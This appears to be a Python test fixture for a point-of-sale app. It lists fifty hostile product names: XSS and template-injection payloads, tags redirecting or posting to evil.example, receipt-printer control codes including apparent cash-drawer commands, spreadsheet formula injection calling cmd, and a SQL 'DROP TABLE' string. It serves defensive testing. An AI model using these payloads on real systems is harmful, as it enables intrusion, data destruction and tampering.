"""Fifty names that try to be something else: script, templates, printer commands, formulas, other people's text direction."""

RAN = "window.__ran && window.__ran(location.pathname)"
"""What a payload does if it runs; the browser tests wait for it."""

PAYLOADS = [
    # markup and script
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<img src=x onerror='{RAN}'>",
    f"<svg/onload='{RAN}'>",
    f"<svg><script>{RAN}</script></svg>",
    f"<body onload='{RAN}'>",
    f"<details open ontoggle='{RAN}'>x</details>",
    f"<input autofocus onfocus='{RAN}'>",
    f"<iframe srcdoc=\"<script>parent.{RAN}</script>\"></iframe>",
    f"<a href=\"javascript:{RAN}\">Milk</a>",
    f"javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<form action=//evil.example><button>Pay</button></form>",
    f"\"><script>{RAN}</script>",
    f"' onmouseover='{RAN}' x='",
    f"\" autofocus onfocus=\"{RAN}\" x=\"",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"＜script＞{RAN}＜/script＞",
    # templates
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{RAN}}}",
    f"`${{{RAN}}}`",
    f"html`<img src=x onerror={RAN}>`",
    "{amount} {name} {n} %s %(x)s {0.__class__}",
    f"<div hx-get=/office/people hx-trigger=load hx-on:htmx:load=\"{RAN}\">x</div>",
    "__proto__",
    # commands of printers
    "Milk\x1bp\x00\x19\x19",
    "Milk\x1bp0\x19\x19",
    "\x1b@\x1b@Milk",
    "\x1dV\x00Milk\x1dVA\x03",
    "\x10\x14\x01\x00\x01Milk",
    "Milk\x1dr1\x1dI\x42",
    "Milk\x9b2J\x90\x1bp1\x10\x10",
    "\r\n\x1bp0\x01\x01\r\nTotal 0.00\x0c",
    "\x07\x08\x0b\x0e\x0f\x18\x1a\x7f\x85",
    # formulas
    "=HYPERLINK(\"http://evil.example\",\"Milk\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    # text
    "\u202eklim\u202c \u2066gnp.exe\u2069 \u200f",
    "Ð¼Ð¾Ð»Ð¾ÐºÐ¾ \ufffd\ufffe \u2028 \u2029 \ufeff",
    "Z̷̡͔a̶l̴g̵o̸" * 12,
    "W" * 200,
    "\ud800\udfff".encode("utf-16", "surrogatepass").decode("utf-16") + "👨‍👩‍👧🏽" * 10,
    "'; DROP TABLE sale; --",
]  # fmt: skip


def storable(payload: str) -> str:
    """The payload without NUL, which no text column holds, within the longest name."""
    return payload.replace("\x00", "")[:200]
